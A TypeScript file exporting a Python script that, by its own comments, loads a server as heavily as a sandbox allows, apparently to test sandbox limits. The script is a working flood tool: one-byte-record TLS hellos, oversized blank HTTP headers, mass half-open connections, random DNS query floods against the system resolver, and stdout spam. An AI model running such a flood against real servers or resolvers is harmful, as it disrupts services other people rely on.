/**
 * A program that makes as much work for the server as a sandbox can, in every way at once, until it is
 * killed.
 */

/**
 * Arguments: NAME PORT of a server that may be reached. Each thread repeats one thing: TLS hellos in records
 * of one byte, header values of blanks, connections by the thousand, DNS queries, and short lines.
 */
export const OVERLOAD = `
import os, socket, sys, threading
# Looked up once: the queries below use up the rate limit.
host, port = socket.gethostbyname(sys.argv[1]), int(sys.argv[2])

def forever(work):
  def loop():
    while True:
      try: work()
      except OSError: pass
  threading.Thread(target=loop).start()

def exchange(data):
  with socket.create_connection((host, port), 5) as s:
    s.sendall(data)
    s.settimeout(0.5)
    s.recv(1)

def connections():
  held = []
  for _ in range(500):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex((host, port))
    held.append(s)
  for s in held: s.close()

name_server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def queries():
  for n in range(100):
    label = os.urandom(8).hex().encode()
    question = bytes([len(label)]) + label + b'\\4test\\0' + b'\\0\\1\\0\\1'
    udp.sendto(os.urandom(2) + b'\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + question, (name_server, 53))

hello = b'\\1\\0\\x40\\0\\3\\3' + bytes(16384)
forever(lambda: exchange(b''.join(b'\\x16\\3\\1\\0\\1' + bytes([byte]) for byte in hello)))
forever(lambda: exchange(b'GET / HTTP/1.1\\r\\nHost: a\\r\\nX: ' + 4000 * b' ' + b'\\1\\r\\n\\r\\n'))
forever(connections)
forever(queries)
forever(lambda: os.write(1, b'x\\n' * 10000))
`;
